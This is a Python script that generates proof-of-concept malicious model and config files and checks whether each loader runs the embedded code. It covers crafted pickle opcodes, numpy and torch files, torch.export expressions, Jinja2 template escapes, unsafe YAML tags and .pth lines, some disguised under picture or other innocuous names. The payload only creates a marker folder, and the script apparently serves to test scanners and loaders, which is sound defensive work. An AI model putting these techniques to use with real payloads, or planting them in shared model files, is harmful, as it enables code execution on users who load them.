"""Writes payloads in containers of many kinds, and lets the loaders that take them run: each makes a folder where it ran.

stdin: {"folder": path}. stdout: [{"name", "ran"}], a folder of that name each.
"""

import bz2
import io
import json
import lzma
import os
import struct
import sys
import tarfile
import zipfile

import numpy
import torch

MARK = "payload-ran"
CALL = f"cos\nmkdir\n(S'{MARK}'\ntR".encode()
PICKLE = b"\x80\x02" + CALL + b"."
LOAD = "import pickle; pickle.load(open('m.bin', 'rb'))"
CASES: list[tuple[str, dict[str, bytes], str]] = []


class Made:
    def __reduce__(self):
        return os.mkdir, (MARK,)


def saved(write) -> bytes:
    stream = io.BytesIO()
    write(stream)
    return stream.getvalue()


def rezipped(data: bytes, change, more=()) -> bytes:
    source = zipfile.ZipFile(io.BytesIO(data))
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as target:
        for name in source.namelist():
            target.writestr(name, change(name, source.read(name)))
        for name, content in more:
            target.writestr(name, content)
    return stream.getvalue()


def short(value: str) -> bytes:
    return b"\x8c" + bytes([len(value)]) + value.encode()


def pickles() -> None:
    """Unusual opcodes and uses of the memo."""
    argument = short(MARK) + b"\x85R."
    texts = {
        "names from the memo": b"\x80\x04" + short("mkdir") + b"\x94" + short("os") + b"\x9400h\x01h\x00\x93" + argument,
        "names from far in the memo": b"\x80\x04" + short("mkdir") + b"r\x00\x10\x00\x000" + short("os") + b"j\x00\x10\x00\x00\x93" + argument,
        "an overwritten memo": b"\x80\x04" + short("len") + b"q\x05" + short("mkdir") + b"q\x0500" + short("os") + b"h\x05\x93" + argument,
        "behind a bytearray": b"\x80\x05\x96" + struct.pack("<Q", 4) + b"abcd0" + short("os") + short("mkdir") + b"\x93" + argument,
        "by __setstate__": b"\x80\x02ccollections\nOrderedDict\n)R}(X\x0c\x00\x00\x00__setstate__cos\nmkdir\nubX\x0b\x00\x00\x00" + MARK.encode() + b"b.",
        "by a tensor's class": b"\x80\x02ctorch._tensor\n_rebuild_from_type_v2\n(cos\nmkdir\nNX\x0b\x00\x00\x00" + MARK.encode() + b"\x85}tR.",
        "behind POP_MARK": b"\x80\x02(K\x01K\x021" + CALL + b".",
        "by INST": f"(S'{MARK}'\nios\nmkdir\n.".encode(),
        "by OBJ and then nonsense": f"(cos\nmkdir\nS'{MARK}'\no\xff\xff".encode("latin1"),
    }
    for name, data in texts.items():
        CASES.append((name, {"m.bin": data}, LOAD))


def archives() -> None:
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w") as file:
        file.writestr("a/deep.bin", PICKLE)
    stream = io.BytesIO()
    with tarfile.open(fileobj=stream, mode="w:bz2") as file:
        entry = tarfile.TarInfo("x/inner.zip")
        entry.size = len(inner.getvalue())
        file.addfile(entry, io.BytesIO(inner.getvalue()))
    loads = "import io, pickle, tarfile, zipfile; inner = tarfile.open('m.dat').extractfile('x/inner.zip').read(); pickle.loads(zipfile.ZipFile(io.BytesIO(inner)).read('a/deep.bin'))"
    CASES.append(("a zip in a tar in bzip2", {"m.dat": stream.getvalue()}, loads))
    objects = saved(lambda file: numpy.save(file, numpy.array([Made()], dtype=object)))
    loads = "import io, lzma, numpy; numpy.load(io.BytesIO(lzma.open('a.npy.xz').read()), allow_pickle=True)"
    CASES.append(("objects of numpy in xz", {"a.npy.xz": lzma.compress(objects)}, loads))
    rows = numpy.zeros(1, dtype=[("x", "f8"), ("y", "O")])
    rows["y"][0] = Made()
    parts = saved(lambda file: numpy.save(file, rows))
    CASES.append(("a field of objects", {"a.npy": parts}, "import numpy; numpy.load('a.npy', allow_pickle=True)"))
    picture = b"GIF89a\x00\x00\x00" + CALL + b"."
    CASES.append(("a picture that is a pickle", {"m.bin": picture}, LOAD))
    loads = "import bz2, pickle; pickle.load(bz2.open('m.png'))"
    CASES.append(("bzip2 under a picture's name", {"m.png": bz2.compress(PICKLE)}, loads))


def torch_files() -> None:
    state = {"w": torch.zeros(4)}
    plain = saved(lambda stream: torch.save(state, stream))
    root = zipfile.ZipFile(io.BytesIO(plain)).namelist()[0].split("/")[0]
    marks = [(f"{root}/.data/extern_modules", b"os\nposix\n")]
    package = rezipped(plain, lambda name, data: PICKLE if name.endswith("data/0") else data, marks)
    loads = "from torch.package import PackageImporter; PackageImporter('m.pt').load_pickle('data', '0')"
    CASES.append(("a package's pickle in a storage's place", {"m.pt": package}, loads))
    old = saved(lambda stream: torch.save(state, stream, _use_new_zipfile_serialization=False))
    loads = "import pickle, torch; file = open('m.pt', 'rb'); torch.load(file, weights_only=True); pickle.load(file)"
    CASES.append(("a pickle behind an old file's storages", {"m.pt": old + PICKLE}, loads))
    hidden = rezipped(plain, lambda name, data: PICKLE if name.endswith("data.pkl") else data)
    CASES.append(("torch.load", {"m.pt": hidden}, "import torch; torch.load('m.pt', weights_only=False)"))

    class Module(torch.nn.Module):
        def forward(self, x):
            return x * x.shape[0]

    shapes = ({0: torch.export.Dim("n", min=2, max=10)},)
    program = torch.export.export(Module(), (torch.zeros(3, 2),), dynamic_shapes=shapes)

    def change(name: str, data: bytes) -> bytes:
        if not name.endswith("model.json"):
            return data
        def walk(value):
            if isinstance(value, dict):
                evil = f"__import__('os').mkdir('{MARK}')"
                return {key: evil if key == "expr_str" else walk(item) for key, item in value.items()}
            return [walk(item) for item in value] if isinstance(value, list) else value
        return json.dumps(walk(json.loads(data))).encode()

    exported = rezipped(saved(lambda stream: torch.export.save(program, stream)), change)
    CASES.append(("an expression of torch.export", {"m.pt2": exported}, "import torch; torch.export.load('m.pt2')"))


def texts() -> None:
    escape = f"{{{{ cycler.__init__.__globals__.os.mkdir('{MARK}') }}}}"
    render = "import jinja2; jinja2.Template({}).render()"
    CASES.append(("a template under another name", {"chat.tmpl": escape.encode()}, render.format("open('chat.tmpl').read()")))
    named = {"_type": "prompt", "template_format": "jinja2", "template": escape}
    CASES.append(("a prompt of LangChain", {"prompt.json": json.dumps(named).encode()}, render.format("__import__('json').load(open('prompt.json'))['template']")))
    tag = f"flavors: !!python/object/apply:os.mkdir ['{MARK}']\n".encode()
    CASES.append(("YAML under another name", {"MLmodel": tag}, "import yaml; yaml.unsafe_load(open('MLmodel'))"))
    CASES.append(("a line of a .pth", {"a.pth": f"#\nimport os; os.mkdir('{MARK}')\n".encode()}, "import site; site.addsitedir('.')"))
    target = f"model:\n  target: os.mkdir\n  params:\n    path: {MARK}\n".encode()
    loads = "import importlib, yaml; c = yaml.safe_load(open('v1.yaml'))['model']; m, n = c['target'].rsplit('.', 1); getattr(importlib.import_module(m), n)(**c['params'])"
    CASES.append(("a target of latent diffusion", {"v1.yaml": target}, loads))


def main() -> None:
    folder = json.load(sys.stdin)["folder"]
    for write in (pickles, archives, torch_files, texts):
        write()
    answers = []
    for number, (name, files, loads) in enumerate(CASES):
        own = os.path.join(folder, f"{number}")
        os.mkdir(own)
        for file, data in files.items():
            with open(os.path.join(own, file), "wb") as stream:
                stream.write(data)
        run = os.path.join(folder, f"{number}-run")
        os.mkdir(run)
        child = os.fork()
        if child == 0:
            for file in files:
                os.link(os.path.join(own, file), os.path.join(run, file))
            os.chdir(run)
            os.dup2(os.open(os.devnull, os.O_WRONLY), 2)
            try:
                exec(loads, {})
            finally:
                os._exit(0)
        os.waitpid(child, 0)
        answers.append({"name": name, "path": own, "ran": os.path.isdir(os.path.join(run, MARK))})
    print(json.dumps(answers))


main()
